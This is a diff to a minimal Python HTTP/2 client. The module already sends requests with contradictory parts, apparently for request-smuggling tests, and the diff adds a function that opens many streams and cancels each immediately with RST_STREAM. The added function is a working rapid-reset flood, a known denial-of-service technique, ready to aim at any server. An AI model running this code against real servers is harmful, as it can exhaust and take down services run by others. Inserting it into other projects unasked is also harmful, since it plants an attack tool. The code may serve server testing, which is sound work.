@@ -1,10 +1,12 @@
-"""Just enough HTTP/2 to send one request whose parts contradict each other. Standard library only."""
+"""Just enough HTTP/2 to send one request whose parts contradict each other, or many that are taken back at once.
+Standard library only."""
 
 import struct
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY = 0, 1, 3, 4, 7
 END_STREAM, END_HEADERS = 1, 4
+CANCEL = 8
 STATUS_BY_INDEX = {8: 200, 9: 204, 10: 206, 11: 304, 12: 400, 13: 404, 14: 500}
 
 
@@ -46,3 +48,17 @@ def status_of(block):
     return (
         int(block[2 : 2 + block[1]]) if not block[1] & 0x80 else -1
     )  # the name is ":status", the value plain or packed
+
+
+def reset_at_once(connection, headers, count):
+    """Opens so many streams and takes each back in the same breath; how many went out before the server had enough."""
+    block = b"".join(literal(name, value) for name, value in headers)
+    connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
+    for number in range(count):
+        stream = 2 * number + 1
+        try:
+            connection.sendall(frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
+                               + frame(RST_STREAM, 0, stream, struct.pack("!I", CANCEL)))
+        except OSError:
+            return number
+    return count
